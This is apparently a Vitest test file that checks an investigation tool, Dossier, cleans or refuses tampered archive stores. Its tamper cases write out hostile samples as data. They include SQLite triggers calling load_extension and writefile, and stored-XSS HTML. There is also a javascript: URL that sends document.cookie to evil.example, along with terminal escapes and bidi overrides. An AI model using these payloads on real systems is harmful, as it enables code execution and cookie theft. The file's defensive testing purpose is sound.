/**
 * Issue 13, item 4: an archive's store is untrusted. Each case starts from a real exported archive,
 * alters its store as someone holding the file could, and re-zips it with matching checksums.
 * Every archive is either refused with a sentence, leaving the user-data folder as it was, or
 * imported cleaned into a store of Dossier's own schema on which `dossier verify` passes.
 */
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/main.ts';
import { call, dispatch } from '../../src/main/dispatch.ts';
import { openDatabase } from '../../src/main/store/database.ts';
import type { InvestigationInfo } from '../../src/shared/investigations.ts';
import { captureIo } from '../helpers/capture-io.ts';
import { tamperArchive } from '../helpers/tamper-archive.ts';
import { tempSession, type TempSession } from '../helpers/temp-session.ts';
import { tempDir, writeFiles } from '../helpers/temp-workspace.ts';

const PAGE = `<!doctype html><html lang="en"><head><title>A detainee speaks</title>
<meta property="og:url" content="https://example.org/news/detainee"></head><body><article>
<h1>A detainee speaks</h1><p>He was held <a href="https://example.org/camp">near Ghulja</a> for <b>two years</b> &amp; more.</p>
<pre>
  kept as written</pre><table><tr><td colspan="2">cell</td></tr></table>
<p><img alt="camp" src="data:image/png;base64,iVBORw0KGgo="> Signed, <i>a witness</i>.</p></article></body></html>`;

/** Characters that must never reach the store: controls (terminal escapes) and bidi overrides. */
// eslint-disable-next-line no-control-regex -- these are what the test looks for
const UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function snapshot(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return (readdirSync(dir, { recursive: true }) as string[]).sort().map((name) => {
    const full = path.join(dir, name);
    return `${name}:${statSync(full).isFile() ? statSync(full).size : 'dir'}`;
  });
}

function withStore<T>(dir: string, read: (db: DatabaseSync) => T): T {
  const db = new DatabaseSync(path.join(dir, 'dossier.sqlite'), { readOnly: true });
  try {
    return read(db);
  } finally {
    db.close();
  }
}

type Row = Record<string, unknown>;
const rows = (db: DatabaseSync, sql: string) => db.prepare(sql).all() as Row[];

/** Every row a user could see, in a stable order: "unchanged" means this is equal. */
function dumpStore(dir: string): string {
  return withStore(dir, (db) =>
    JSON.stringify(
      ['documents', 'passages', 'passage_tags', 'tags', 'reports', 'originals'].map((t) =>
        rows(db, `SELECT * FROM ${t} ORDER BY ${t === 'passage_tags' ? 'passage_id, tag_id' : t === 'originals' ? 'sha256' : 'id'}`).map((r) =>
          Object.fromEntries(Object.entries(r).map(([k, v]) => [k, v instanceof Uint8Array ? v.byteLength : v])),
        ),
      ),
    ),
  );
}

const schemaObjects = (db: DatabaseSync) =>
  rows(db, "SELECT type, name, tbl_name FROM sqlite_schema WHERE name NOT LIKE 'sqlite_%' ORDER BY type, name").map((r) => `${r.type} ${r.name} ${r.tbl_name}`);

describe('investigation archive with a hostile store', () => {
  const scratch = tempDir('dossier-tamper-');
  let machineA: TempSession;
  let machineB: TempSession;
  let archive: Uint8Array;
  let earlier: InvestigationInfo;
  let earlierDump: string;
  let freshSchema: string[];
  const originalTitles: string[] = [];

  const cli = async (...args: string[]) => {
    const c = captureIo();
    const code = await runCli([...args, '--user-data', machineB.userDataDir], c.io);
    return { code, out: c.out(), err: c.err(), json: () => JSON.parse(c.out()) as Row };
  };

  beforeAll(async () => {
    machineA = tempSession();
    machineB = tempSession();
    const sample = await call(machineA.handlers, 'investigations:createSample', {});
    await call(machineA.handlers, 'documents:importData', { files: [{ name: 'detainee.html', data: new TextEncoder().encode(PAGE) }] });
    const file = path.join(scratch.dir, 'clean.dossier');
    await call(machineA.handlers, 'investigations:export', { id: sample.id, path: file });
    archive = new Uint8Array(readFileSync(file));
    for (const d of await call(machineA.handlers, 'documents:list', {})) originalTitles.push(d.title);

    earlier = (await call(machineB.handlers, 'investigations:import', { path: file, open: false })) as InvestigationInfo;
    earlierDump = dumpStore(earlier.path);
    const fresh = openDatabase(path.join(scratch.dir, 'fresh.sqlite'));
    freshSchema = schemaObjects(fresh);
    fresh.close();
  });
  afterAll(() => {
    machineA.cleanup();
    machineB.cleanup();
    scratch.cleanup();
  });

  const write = (bytes: Uint8Array) => {
    const file = path.join(scratch.dir, 'bad.dossier');
    writeFileSync(file, bytes);
    return file;
  };

  /** Imports a tampered archive, which must be accepted; checks what holds for every accepted archive. */
  async function importAccepted(tamper: (db: DatabaseSync) => void): Promise<{ dir: string; cleaned: string[] }> {
    const result = await cli('import-investigation', write(tamperArchive(archive, scratch.dir, tamper)), '--json');
    expect(result.code, result.out).toBe(0);
    const { path: dir, cleaned } = result.json() as { path: string; cleaned: string[] };
    // The CLI tells the user on stderr what was cleaned or left out.
    expect(result.err).toBe(cleaned.map((line) => `${line}\n`).join(''));
    withStore(dir, (db) => expect(schemaObjects(db)).toEqual(freshSchema));
    const verify = await cli('verify', '--workspace', dir, '--json');
    expect(verify.json()).toMatchObject({ ok: true, problems: [], documentsChecked: 7, passagesChecked: 16, indexedDocuments: 7 });
    expect(verify.code).toBe(0);
    expect(dumpStore(earlier.path)).toBe(earlierDump);
    return { dir, cleaned };
  }

  it('imports an archive Dossier wrote exactly as it was, with nothing cleaned', async () => {
    const result = await cli('import-investigation', write(archive), '--json');
    expect(result.json()).toMatchObject({ cleaned: [] });
    expect(result.err).toBe('');
    const dir = (result.json() as { path: string }).path;
    expect(dumpStore(dir)).toBe(earlierDump);
    const flags = withStore(dir, (db) => rows(db, 'SELECT review_flags FROM documents').map((r) => String(r.review_flags)));
    expect(flags.join('')).not.toMatch(/archive/);
  });

  it('never adopts a trigger that would rewrite earlier documents on the next import', async () => {
    const { dir, cleaned } = await importAccepted((db) =>
      db.exec(`CREATE TRIGGER rewrite AFTER INSERT ON documents BEGIN
                 UPDATE documents SET title = 'pwned', source = 'pwned' WHERE id <> new.id;
               END;`),
    );
    expect(cleaned.join(' ')).toMatch(/trigger rewrite/);
    const folder = writeFiles(scratch.dir, { 'later.txt': 'A later report.\n\nIt names the camp near Ghulja.' });
    expect((await cli('import', folder, '--workspace', dir)).code).toBe(0);
    const titles = withStore(dir, (db) => rows(db, 'SELECT title, source FROM documents'));
    expect(titles).toHaveLength(8);
    expect(JSON.stringify(titles)).not.toMatch(/pwned/);
    expect(titles.map((t) => t.title)).toEqual(expect.arrayContaining(originalTitles));
  });

  it('never adopts triggers and views that call load_extension() or writefile(): tagging still works', async () => {
    const { dir, cleaned } = await importAccepted((db) =>
      db.exec(`CREATE TRIGGER ext AFTER INSERT ON passages BEGIN SELECT load_extension('/tmp/evil.so'); END;
               CREATE TRIGGER wf AFTER INSERT ON tags BEGIN SELECT writefile('/tmp/dossier-pwned', 'x'); END;
               CREATE VIEW exfil AS SELECT load_extension('/tmp/evil.so') AS x;`),
    );
    for (const object of ['trigger ext', 'trigger wf', 'view exfil']) expect(cleaned.join(' ')).toContain(object);
    const docs = (await cli('list', '--workspace', dir, '--json')).json() as unknown as { documents: { id: string; format: string }[] };
    const html = docs.documents.find((d) => d.format === 'html')!;
    const tagged = await cli('tag', '--doc', html.id, '--quote', 'near Ghulja', '--tag', 'Place', '--workspace', dir, '--json');
    expect(tagged.code, tagged.out).toBe(0);
    expect(tagged.json()).toMatchObject({ exact: 'near Ghulja' });
    expect(existsSync('/tmp/dossier-pwned')).toBe(false);
  });

  it('keeps tables, columns and indexes Dossier never creates out of the new store', async () => {
    const { dir, cleaned } = await importAccepted((db) =>
      db.exec(`CREATE TABLE exfil(secret TEXT); INSERT INTO exfil VALUES ('x');
               ALTER TABLE documents ADD COLUMN payload TEXT;
               CREATE INDEX odd ON documents(title);`),
    );
    expect(cleaned.join(' ')).toMatch(/table exfil.*column documents\.payload.*index odd/);
    withStore(dir, (db) => expect(rows(db, "SELECT name FROM pragma_table_info('documents') WHERE name = 'payload'")).toEqual([]));
  });

  it('sanitises stored HTML again: handlers, scripts and javascript: links go, the text stays', async () => {
    const { dir } = await importAccepted((db) =>
      db.exec(`UPDATE documents SET original_html =
        '<p onclick="steal()">He was held<img src="x" onerror="alert(1)"> <a href="javascript:alert(1)">near Ghulja</a></p><script>alert(2)</script><iframe src="https://evil.example"></iframe>'
        WHERE format = 'html'`),
    );
    const doc = withStore(dir, (db) => rows(db, "SELECT original_html, review_flags FROM documents WHERE format = 'html'")[0]!);
    expect(doc.original_html).toContain('He was held');
    expect(doc.original_html).toContain('near Ghulja');
    expect(String(doc.original_html)).not.toMatch(/onerror|onclick|javascript:|<script|<iframe|alert/i);
    expect(JSON.parse(String(doc.review_flags))).toEqual(expect.arrayContaining([expect.stringMatching(/imported from an archive.*original HTML/)]));
  });

  it('drops a javascript: or data: URL from a document, and says so in its review flags', async () => {
    const { dir } = await importAccepted((db) => {
      db.exec(`UPDATE documents SET url = 'javascript:fetch("https://evil.example/"+document.cookie)' WHERE format = 'html'`);
      db.exec(`UPDATE documents SET url = ' data:text/html,<script>alert(1)</script>' WHERE language = 'en' AND format = 'md'`);
    });
    const docs = withStore(dir, (db) => rows(db, "SELECT url, review_flags FROM documents WHERE format = 'html' OR (language = 'en' AND format = 'md')"));
    expect(docs).toHaveLength(2);
    for (const doc of docs) {
      expect(doc.url).toBeNull();
      expect(String(doc.review_flags)).toMatch(/URL/);
    }
  });

  it("gives a tag whose colour is url(http://…) one of Dossier's colours, and leaves the others as they were", async () => {
    const before = withStore(earlier.path, (db) => rows(db, 'SELECT name, color FROM tags ORDER BY name'));
    const { dir, cleaned } = await importAccepted((db) => db.exec(`UPDATE tags SET color = 'url(http://evil.example/track.png)' WHERE name = 'Liberty'`));
    const after = withStore(dir, (db) => rows(db, 'SELECT name, color FROM tags ORDER BY name'));
    expect(after.find((t) => t.name === 'Liberty')!.color).toMatch(/^#[0-9a-f]{6}$/i);
    expect(after.filter((t) => t.name !== 'Liberty')).toEqual(before.filter((t) => t.name !== 'Liberty'));
    expect(cleaned.join(' ')).toMatch(/1 tag colour was not a colour/);
  });

  it('removes control characters, bidi overrides and markup from titles, names and notes', async () => {
    const { dir } = await importAccepted((db) => {
      db.prepare("UPDATE documents SET title = ?, author = ? WHERE format = 'html'").run(
        'Witness\u001b]8;;http://evil.example\u0007 <script>alert(1)</script><b>account</b> \u202Etxet',
        '\u0000Ann <img src=x onerror=alert(1)>',
      );
      db.prepare("UPDATE tags SET name = ?, description = ? WHERE name = 'Torture'").run('Tor\u001b[2Jture', 'Line one\nline two\u202E');
      db.prepare('UPDATE passages SET note = ? WHERE rowid = (SELECT min(rowid) FROM passages)').run('Checked\u001b[31m by hand\r\nsecond line');
      db.prepare('UPDATE reports SET title = ?').run('Report\u0007 \u2066for the court\u2069');
      db.prepare("UPDATE store_meta SET value = ? WHERE key = 'name'").run('UDHR\u001b[8m hidden');
    });
    withStore(dir, (db) => {
      for (const [table, column] of [['documents', 'title'], ['documents', 'author'], ['tags', 'name'], ['tags', 'description'], ['passages', 'note'], ['reports', 'title'], ['store_meta', 'value']]) {
        for (const row of rows(db, `SELECT ${column} AS v FROM ${table}`)) expect(String(row.v)).not.toMatch(UNSAFE);
      }
      const html = rows(db, "SELECT title, author, review_flags FROM documents WHERE format = 'html'")[0]!;
      expect(html.title).toBe('Witness account txet');
      expect(html.author).toBe('Ann');
      expect(String(html.review_flags)).toMatch(/title, author/);
      expect(rows(db, 'SELECT note FROM passages').map((r) => r.note)).toContain('Checked by hand\nsecond line');
      expect(rows(db, 'SELECT description FROM tags').map((r) => r.description)).toContain('Line one\nline two');
    });
    const listed = await call(machineB.handlers, 'investigations:list', {});
    expect(listed.map((i) => i.name)).toContain('UDHR hidden');
  });

  describe('refuses with a sentence what cannot be made valid, and writes nothing', () => {
    const cases: [string, (db: DatabaseSync) => void, RegExp, ((m: { counts: Record<string, number> }) => void)?][] = [
      ['blocks that are not JSON', (db) => db.exec(`UPDATE documents SET blocks = '[{"kind": "paragraph", "start": 0,' WHERE format = 'html'`), /the blocks of document "A detainee speaks" cannot be read \(not valid JSON\)/],
      ['details (meta) that are JSON but not an object', (db) => db.exec(`UPDATE documents SET meta = '[1, 2]' WHERE format = 'html'`), /the details \(meta\) of document "A detainee speaks" cannot be read \(/],
      [
        'details (meta) nested deeper than any importer writes',
        (db) => db.prepare("UPDATE documents SET meta = ? WHERE format = 'html'").run(`${'{"a":'.repeat(40)}1${'}'.repeat(40)}`),
        /the details \(meta\) of document "A detainee speaks" cannot be read \(nested too deeply\)/,
      ],
      ['review flags that are not JSON', (db) => db.exec(`UPDATE documents SET review_flags = 'none' WHERE format = 'html'`), /the review flags of document "A detainee speaks" cannot be read \(not valid JSON\)/],
      ['a report body that is not JSON', (db) => db.exec(`UPDATE reports SET body = '<sections/>'`), /the body of report "Sample report: .*" cannot be read \(not valid JSON\)/],
      [
        'redaction settings of the wrong shape',
        (db) => db.exec(`UPDATE reports SET settings = '{"redaction": {"terms": "Zhang Wei"}}'`),
        /the settings \(citation and redaction rules\) of report .* cannot be read/,
      ],
      [
        'a passage that no longer matches its text',
        (db) => db.exec('UPDATE passages SET start = start + 1 WHERE rowid = (SELECT min(rowid) FROM passages)'),
        /passage [0-9a-f-]+ no longer matches the text of document "Universal Declaration of Human Rights \(.*\)": its quote is not at \d+–\d+\./,
      ],
      ['a passage past the end of its text', (db) => db.exec('UPDATE passages SET "end" = 10000000 WHERE rowid = (SELECT min(rowid) FROM passages)'), /no longer matches the text of document/],
      ['a document whose text was edited', (db) => db.exec(`UPDATE documents SET text = text || ' (edited)' WHERE format = 'html'`), /the text of document "A detainee speaks" does not match its recorded SHA-256/],
      [
        'an original file that was swapped',
        (db) => db.exec(`UPDATE originals SET bytes = X'3c703e3c2f703e' WHERE sha256 = (SELECT original_hash FROM documents WHERE format = 'html')`),
        /the original file of document "A detainee speaks" does not match its SHA-256/,
      ],
      [
        'a schema version without its columns',
        (db) => db.exec('DROP INDEX documents_index_generation; ALTER TABLE documents DROP COLUMN index_generation;'),
        /its store says schema version \d+, but its "documents" table lacks the column "index_generation" of that version/,
      ],
      [
        'a view in place of a table',
        (db) => db.exec(`DROP TABLE reports; CREATE VIEW reports AS SELECT id, title, '' AS subtitle, '' AS author_line, NULL AS report_date, '{"sections":[]}' AS body, '{}' AS settings, created_at, created_at AS updated_at FROM tags;`),
        /its store has a view named "reports" where Dossier keeps a table/,
      ],
      [
        'a tag inside its own subtag',
        (db) => db.exec(`UPDATE tags SET parent_id = (SELECT id FROM tags WHERE name = 'Torture') WHERE name = 'Liberty';
                         UPDATE tags SET parent_id = (SELECT id FROM tags WHERE name = 'Liberty') WHERE name = 'Torture';`),
        /the tag "(Liberty|Torture)" is inside one of its own subtags/,
      ],
      [
        'a column of the wrong kind (in a table rebuilt without STRICT)',
        (db) =>
          db.exec(`CREATE TABLE loose AS SELECT * FROM passages; DROP TABLE passages; ALTER TABLE loose RENAME TO passages;
                   UPDATE passages SET start = 'zero' WHERE rowid = (SELECT min(rowid) FROM passages);`),
        /a row of the passages table cannot be read \(start: /,
      ],
      ['a timestamp that is not one', (db) => db.exec(`UPDATE documents SET imported_at = 'yesterday' WHERE format = 'html'`), /\(document "A detainee speaks"\) cannot be read \(imported_at: /],
      ['two tags of the same name once cleaned', (db) => db.exec(`UPDATE tags SET name = 'Liberty' || char(27) WHERE name = 'Torture'`), /the tag "Liberty" is stored twice or clashes with another row/],
      ['a tagging of a passage that is not there', (db) => db.exec(`INSERT INTO passage_tags VALUES ('no-such-passage', (SELECT id FROM tags LIMIT 1))`), /a tagging of a passage points at a passage or tag that is not in the store/],
      ['a manifest whose counts are not the store\'s', (db) => db.exec('DELETE FROM reports'), /its manifest lists 1 reports but its store holds 0/],
      [
        'a store that claims to be from a newer Dossier',
        (db) => db.exec('PRAGMA user_version = 99'),
        /made by a newer Dossier/,
      ],
    ];

    it.each(cases)('%s', async (_label, tamper, message, editManifest) => {
      const bad = write(tamperArchive(archive, scratch.dir, tamper, editManifest));
      const before = snapshot(machineB.userDataDir);
      const listed = await call(machineB.handlers, 'investigations:list', {});
      const result = await dispatch(machineB.handlers, 'investigations:import', { path: bad });
      expect(result.ok).toBe(false);
      if (result.ok) return;
      expect(result.error.message).toMatch(/^bad\.dossier was not imported: /);
      expect(result.error.message).toMatch(message);
      expect(result.error.message).toMatch(/Nothing was written\.$/);
      expect(snapshot(machineB.userDataDir)).toEqual(before);
      expect(await call(machineB.handlers, 'investigations:list', {})).toEqual(listed);
      expect(dumpStore(earlier.path)).toBe(earlierDump);
    });
  });
});
